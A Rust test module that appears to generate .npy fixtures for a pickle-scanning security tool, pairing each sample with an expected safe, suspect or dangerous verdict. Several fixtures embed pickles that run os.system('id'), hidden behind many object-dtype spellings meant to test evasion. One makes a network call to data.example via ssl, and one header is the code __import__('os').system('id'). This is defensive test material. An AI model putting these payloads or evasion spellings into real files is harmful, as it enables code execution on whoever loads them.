//! NumPy arrays in files of their own.

use super::super::build::{Pickle, call};
use super::super::{Expect, Item};

/// An `.npy` file with this header, padded as NumPy does, and what follows.
fn npy(version: u8, header: &str, data: &[u8]) -> Vec<u8> {
    let before = if version == 1 { 10 } else { 12 };
    let mut text = header.as_bytes().to_vec();
    while !(before + text.len() + 1).is_multiple_of(64) {
        text.push(b' ');
    }
    text.push(b'\n');
    let mut bytes = [&b"\x93NUMPY"[..], &[version, 0]].concat();
    if version == 1 {
        bytes.extend((text.len() as u16).to_le_bytes());
    } else {
        bytes.extend((text.len() as u32).to_le_bytes());
    }
    bytes.extend(text);
    bytes.extend(data);
    bytes
}

fn header(dtype: &str, shape: &str) -> String {
    format!("{{'descr': {dtype}, 'fortran_order': False, 'shape': {shape}, }}")
}

/// Dtypes of objects, and how `numpy.lib.format` lets them be written.
static SPELLINGS: &[&str] = &[
    "'f4,O'",
    "'O,f4'",
    "'(2,)O'",
    "'(2)O'",
    "'2O'",
    "'object'",
    "'object_'",
    "'O8'",
    "'=O'",
    "'>O4'",
    "'V8, O'",
    "('|O', (2,))",
    "('|O', 2)",
    "(('|O', (1,)), (2,))",
    "('f4,O', (2,))",
    "[('a', 'f4,O')]",
    "[('a', '<f4'), ('b', [('c', '|O')])]",
    "[['a', 'O']]",
    "[('a', 'O', 2)]",
    "[(('title', 'a'), 'O', (1, 1))]",
    "[('a', ('O', (2,)))]",
    "\"O\"",
];

/// Dtypes that nothing here understands, some of which NumPy takes for one of objects.
static STRANGE: &[&str] = &[
    "['aO']",
    "{'aO': 1}",
    "'f4' ',O'",
    "{'names': ['a'], 'formats': ['O'], 'offsets': [0], 'itemsize': 8}",
    "u'O'",
    "'\\x4f'",
    "'f4,O,'  'O'",
    "[('a', 'O', [2])]",
    "('O', {'a': 1})",
    "'float, object'",
];

/// An array of each dtype with a pickle behind that runs something.
fn spelt() -> Vec<Item> {
    let item = |name: String, dtype: &str| {
        let bytes = npy(1, &header(dtype, "(1,)"), &call("os", "system", "id"));
        Item::new(format!("pickle-npy-{name}"), Expect::Dangerous, "array.npy", bytes)
            .fires(&["pickle-dangerous-global"])
    };
    let known = SPELLINGS.iter().enumerate().map(|(at, dtype)| item(format!("spelt-{at}"), dtype));
    let strange = STRANGE.iter().enumerate().map(|(at, dtype)| item(format!("strange-{at}"), dtype));
    known.chain(strange.map(|item| item.fires(&["numpy-malformed"]))).collect()
}

pub(super) fn items() -> Vec<Item> {
    [arrays(), broken(), spelt()].concat()
}

fn arrays() -> Vec<Item> {
    const RULE: &str = "numpy-malformed";
    let item = |name: &str, expect, bytes: Vec<u8>| Item::new(format!("pickle-npy-{name}"), expect, "array.npy", bytes);
    let safe = |name: &str, bytes: Vec<u8>| item(name, Expect::Safe, bytes).quiet(&[RULE, "trailing-bytes"]);
    let objects = Pickle::proto(3)
        .global("numpy.core.multiarray", "_reconstruct")
        .global("numpy", "ndarray")
        .raw(b"K\0\x85C\x01b\x87R(K\x01K\x01\x85")
        .global("numpy", "dtype")
        .text("O8")
        .raw([0x89, 0x88, 0x87, b'R'])
        .raw(b"(K\x03")
        .text("|")
        .raw(b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb")
        .raw([0x89])
        .raw("]")
        .text("a")
        .raw("atb")
        .stop();
    let floats = [0_u8; 96];
    vec![
        safe("floats", npy(1, &header("'<f4'", "(24,)"), &floats)),
        safe("matrix-v2", npy(2, &header("'<f8'", "(3, 4)"), &floats)),
        safe("text-v3", npy(3, &header("'<U4'", "(6,)"), &floats)),
        safe("scalar", npy(1, &header("'|b1'", "()"), &[1])),
        safe("dates", npy(1, &header("'<M8[ns]'", "(12,)"), &floats)),
        safe("record", npy(1, &header("[('a', '<i4'), ('b', '<f4', (2,))]", "(8,)"), &floats)),
        safe("bool-empty", npy(1, &header("'|b1'", "(0,)"), &[])),
        safe("commas", npy(1, &header("'<f4,<f4'", "(12,)"), &floats)),
        safe("counts", npy(1, &header("'2<f4, (2,2)<f4'", "(4,)"), &floats)),
        safe("shaped", npy(1, &header("('<f4', (2, 3))", "(4,)"), &floats)),
        safe("objects", npy(1, &header("'|O'", "(1,)"), &objects)),
        item("objects-hostile", Expect::Dangerous, npy(1, &header("'|O'", "(1,)"), &call("os", "system", "id")))
            .fires(&["pickle-dangerous-global"]),
        item(
            "ssl-exfiltration",
            Expect::Dangerous,
            npy(
                1,
                &header("'|O'", "(1,)"),
                &Pickle::proto(2)
                    .global("ssl", "get_server_certificate")
                    .text("data.example")
                    .raw(b"M\xbb\x01\x86\x85R")
                    .stop(),
            ),
        )
        .fires(&["pickle-dangerous-global"]),
        item(
            "record-objects-hostile",
            Expect::Dangerous,
            npy(1, &header("[('a', '|O')]", "(1,)"), &call("os", "system", "id")),
        )
        .fires(&["pickle-dangerous-global"]),
        item("pickle-named-npy", Expect::Dangerous, call("os", "system", "id")).fires(&["pickle-dangerous-global"]),
        item("pickle-behind", Expect::Dangerous, {
            [npy(1, &header("'<f4'", "(24,)"), &floats), call("os", "system", "id")].concat()
        })
        .fires(&["pickle-dangerous-global", "trailing-bytes"]),
        item("tail", Expect::Suspect, npy(1, &header("'<f4'", "(23,)"), &floats)).fires(&["trailing-bytes"]),
    ]
}

/// Headers that NumPy refuses, or that say more than there is.
fn broken() -> Vec<Item> {
    let bad = |name: &str, bytes: Vec<u8>| {
        Item::new(format!("pickle-npy-{name}"), Expect::Suspect, "array.npy", bytes).fires(&["numpy-malformed"])
    };
    let floats = [0_u8; 96];
    vec![
        bad("too-short", npy(1, &header("'<f4'", "(25,)"), &floats)),
        bad("shape-overflow", npy(1, &header("'<f8'", "(9223372036854775807, 9223372036854775807)"), &floats)),
        bad("shape-negative", npy(1, &header("'<f8'", "(-1,)"), &floats)),
        bad("header-is-code", npy(1, "__import__('os').system('id')", &floats)),
        bad("header-calls", npy(1, &header("'<f4'", "(int('24'),)"), &floats)),
        bad("key-twice", npy(1, "{'descr': '|O', 'descr': '<f4', 'fortran_order': False, 'shape': (24,), }", &floats)),
        bad("key-missing", npy(1, "{'descr': '<f4', 'shape': (24,), }", &floats)),
        bad("key-extra", npy(1, "{'descr': '<f4', 'fortran_order': False, 'shape': (24,), 'x': 1}", &floats)),
        bad("version-9", npy(9, &header("'<f4'", "(24,)"), &floats)),
        bad("dtype-unknown", npy(1, &header("'<z9'", "(24,)"), &floats)),
        bad("nested-lists", npy(1, &header(&"[".repeat(5000), "(24,)"), &floats)),
    ]
}
